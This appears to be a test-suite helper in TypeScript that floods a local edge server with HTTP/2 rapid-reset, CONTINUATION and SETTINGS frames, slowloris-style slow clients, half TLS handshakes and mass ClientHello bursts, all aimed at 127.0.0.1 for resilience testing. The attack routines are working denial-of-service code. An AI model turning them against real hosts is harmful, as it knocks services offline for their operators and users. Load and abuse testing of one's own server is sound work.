import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { frameOf } from '../../apps/edge/src/http/testing/raw-http2.ts';
import { captureHello } from '../../apps/edge/src/testing/client-hellos.ts';

// The attackers, in a process of their own: told what to do, they do it until they are killed.

export type AttackName =
  | 'rapid reset'
  | 'CONTINUATION'
  | 'SETTINGS'
  | 'slow clients'
  | 'half handshakes'
  | 'hellos at once';

/** What this process is told. */
export interface AttackOrder {
  readonly attacks: readonly AttackName[];
  readonly port: number;
  readonly host: string;
}

/** Connections that flood at the same time, each made anew when the edge has ended it. */
const FLOODERS = 4;
const CROWD = 1_000;
/** Clients of one address have bounds of their own; the attackers come from several. */
const ADDRESSES = 8;
/** Milliseconds between a byte and the next of a slow client. */
const DRIP_MS = 1_000;
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frameOf(4, 0, 0)]);

process.on('message', (order: AttackOrder) => {
  for (const attack of order.attacks) void ATTACKS[attack](order);
});
// What is cut off is made anew.
process.on('uncaughtException', () => {});

const ATTACKS: Record<AttackName, (order: AttackOrder) => Promise<void>> = {
  'rapid reset': (order) =>
    flood(order, (round) => {
      const streams = Array.from({ length: 100 }, (_, nth) => (round * 100 + nth) * 2 + 1);
      return Buffer.concat(
        streams.flatMap((stream) => [
          frameOf(1, 5, stream, requestTo(order.host)),
          frameOf(3, 0, stream, Buffer.from([0, 0, 0, 8])),
        ]),
      );
    }),
  CONTINUATION: (order) =>
    flood(order, (round) =>
      Buffer.concat([
        ...(round === 0 ? [frameOf(1, 0, 1, requestTo(order.host))] : []),
        ...Array.from({ length: 100 }, () => frameOf(9, 0, 1, Buffer.alloc(200, 0x82))),
      ]),
    ),
  SETTINGS: (order) =>
    flood(order, () =>
      Buffer.concat(
        Array.from({ length: 100 }, () => frameOf(4, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]))),
      ),
    ),
  'slow clients': (order) =>
    crowd(async (nth) => {
      const socket = await openTls(order, nth, 'http/1.1');
      const head = `GET / HTTP/1.1\r\nHost: ${order.host}\r\nX-Slow: ${'x'.repeat(1_000)}`;
      for (const byte of head) {
        if (!socket.writable) return;
        socket.write(byte);
        await sleep(DRIP_MS);
      }
    }),
  'half handshakes': async (order) => {
    const hello = await captureHello({ servername: order.host });
    await crowd(async (nth) => {
      const socket = connectTcp({ host: '127.0.0.1', port: order.port, localAddress: addressOf(nth) });
      socket.write(hello);
      await closed(socket);
    });
  },
  'hellos at once': async (order) => {
    const hello = await captureHello({ servername: order.host });
    for (;;) {
      const sockets = await Promise.all(Array.from({ length: CROWD }, (_, nth) => openTcp(order, nth)));
      for (const socket of sockets) socket.write(hello);
      await Promise.all(sockets.map(closed));
    }
  },
};

async function flood(order: AttackOrder, frames: (round: number) => Buffer): Promise<void> {
  await Promise.all(
    Array.from({ length: FLOODERS }, async (_, nth) => {
      for (;;) {
        const socket = await openTls(order, nth, 'h2').catch(() => null);
        if (socket === null) continue;
        socket.resume();
        socket.write(PREFACE);
        for (let round = 0; socket.writable; round += 1) {
          if (!socket.write(frames(round)))
            await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed(socket)]);
          await sleep(1);
        }
        socket.destroy();
      }
    }),
  );
}

/** So many clients at a time, each doing the same again and again; they come within two seconds. */
async function crowd(client: (nth: number) => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: CROWD }, async (_, nth) => {
      await sleep((nth * 2_000) / CROWD);
      for (;;) await client(nth).catch(() => sleep(100));
    }),
  );
}

function openTls({ port, host }: AttackOrder, nth: number, protocol: string): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const raw = connectTcp({ host: '127.0.0.1', port, localAddress: addressOf(nth) });
    raw.on('error', reject);
    const socket = connectTls({
      ...{ socket: raw, servername: host, rejectUnauthorized: false, ALPNProtocols: [protocol] },
    });
    socket.on('error', reject);
    socket.once('close', () => reject(new Error('closed')));
    socket.once('secureConnect', () => resolve(socket));
    socket.resume();
  });
}

/** Gives the socket when it is connected, or has failed to. */
function openTcp({ port }: AttackOrder, nth: number): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connectTcp({ host: '127.0.0.1', port, localAddress: addressOf(nth) });
    socket.on('error', () => resolve(socket));
    socket.once('connect', () => resolve(socket));
  });
}

function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed) resolve();
    socket.on('error', () => {});
    socket.once('close', () => resolve());
    socket.resume();
  });
}

function addressOf(nth: number): string {
  return `127.0.0.${2 + (nth % ADDRESSES)}`;
}

/** GET, https, `/` and the authority, in HPACK without a table (RFC 7541 appendix A: 2, 7, 4, 1). */
function requestTo(host: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, host.length]), Buffer.from(host)]);
}
